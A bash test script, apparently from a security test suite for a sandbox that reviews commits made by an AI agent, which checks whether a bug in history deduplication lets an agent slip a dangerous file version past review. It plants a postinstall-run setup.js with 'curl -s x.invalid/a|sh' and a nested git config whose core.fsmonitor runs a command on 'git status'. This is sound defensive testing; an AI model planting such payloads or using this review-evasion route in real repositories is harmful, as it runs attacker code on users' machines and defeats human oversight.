#!/bin/bash
# 08 (phase 2): history.go versionsBeyond dedups versions by path+mode+blob
# over the whole history (shown[k] = true at the first sighting), and
# diff-tree --stdin lists commits newest first, so a version is scanned
# once, with the tree of the NEWEST commit that (re)introduces it. The
# agent introduces the same version twice: once where its context makes
# it dangerous, and once, later, where it does not.
#  V=a The user's package.json has "postinstall": "node tools/setup.js".
#      C1: tools/setup.js backdoored (AUTORUN-TARGET high, as history/02a).
#      C2: tools/setup.js back. C3: package.json without the postinstall
#      and the same backdoored tools/setup.js blob (no entry runs it here).
#      C4: both back (+ a line in src). Final tree = base + that line.
#  V=b history/19's bare repository, through the index: C1 adds
#      sub/{HEAD,config (core.worktree=.., core.fsmonitor),
#      objects/info/packs,refs/heads/.keep}; C2 removes sub/config and
#      sub/HEAD; C3 adds the same sub/config blob alone (no HEAD: not a
#      git directory); C4 removes it and puts sub/HEAD back. Final tree:
#      sub/HEAD, objects/info/packs, refs/heads/.keep (no config).
# CONTROL=1: C1, C2 (and the final line) only; must be refused.
# Got through = a branch whose C1 holds the dangerous version, made
# without --accept. V=b end to end: check C1 out in a worktree and run
# `git status` in sub/ (the fsmonitor command writes $M).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"
MODE=${1:-direct}; V=${V:-a}; CONTROL=${CONTROL:-0}
NPKG=2 mkproj; mkdir -p tools && echo 'console.log("setup ok")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}\n' > package.json
write_sandbox "$MODE"; up_sandbox
if [ "$V" = a ]; then
cat > "$T/plant.sh" <<'PLANT'
set -e
cp package.json /tmp/p; cp tools/setup.js /tmp/s
echo 'require("child_process").execSync("curl -s x.invalid/a|sh")' > tools/setup.js && git commit -qam "C1 setup"
cp /tmp/s tools/setup.js && git commit -qam "C2 revert"
if [ "$CONTROL" != 1 ]; then
echo 'require("child_process").execSync("curl -s x.invalid/a|sh")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc"}}\n' > package.json && git commit -qam "C3 no postinstall"
fi
cp /tmp/s tools/setup.js; cp /tmp/p package.json; echo "// done" >> src/extension.ts; git commit -qam "C4 back"
git log --format="%h %s|" | tr -d "\n"
PLANT
PAT='x.invalid/a'
elif [ "$V" = c ]; then
cat > "$T/plant.sh" <<'PLANT'
set -e
echo 'require("child_process").execSync("curl -s x.invalid/a|sh")' > tools/setup.js && git commit -qam "C1 setup"
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc"}}\n' > package.json && git commit -qam "C2 no postinstall"
git log --format="%h %s|" | tr -d "\n"
PLANT
PAT='x.invalid/a'
else
cat > "$T/plant.sh" <<'PLANT'
set -e
h() { printf "$1" | git hash-object -w --stdin; }
add() { git update-index --add --cacheinfo "100644,$(h "$2"),sub/$1"; }
CFG='[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch MARK #"\n'
add HEAD 'ref: refs/heads/main\n'; add objects/info/packs ''; add refs/heads/.keep ''; add config "$CFG"
git commit -qm "C1 sub"
git rm -q --cached sub/config sub/HEAD && git commit -qm "C2"
if [ "$CONTROL" != 1 ]; then add config "$CFG"; git commit -qm "C3 config alone"; git rm -q --cached sub/config; fi
add HEAD 'ref: refs/heads/main\n' && git commit -qm "C4"
git log --format="%h %s|" | tr -d "\n"
PLANT
sed -i "s|MARK|$M|" "$T/plant.sh"; PAT='fsmonitor'
fi
airlock exec -i "$N" -- sh -c 'cat > /tmp/plant.sh' < "$T/plant.sh" || exit 2
ag "CONTROL=$CONTROL sh /tmp/plant.sh"
echo; sleep 0.5
try ctx
[ "$V" = c ] && for p in tools/setup.js package.json; do echo "  review: $p: $(flags_of $p)"; done
[ "$V" = c ] && high_for tools/setup.js && { echo "  review flags tools/setup.js high: shown as dangerous"; finish; }
if has_branch && hist_has "$PAT"; then echo "  branch $BR carries the dangerous version (C1) without --accept"; R=1
	if [ "$V" = b ]; then c1=$(git log --format='%H %s' "$BR" | grep ' C1 sub' | cut -d' ' -f1)
		git worktree add -q --detach "$T/wt" "$c1" 2>/dev/null && (cd "$T/wt/sub" && git status >/dev/null 2>&1); git worktree remove --force "$T/wt" 2>/dev/null
		[ -e "$M" ] && echo "  END TO END: checking out C1 and running git status in sub/ ran the agent's fsmonitor command"; fi
fi
[ "$CONTROL" = 1 ] && echo "  (control run: expected refused)"
finish
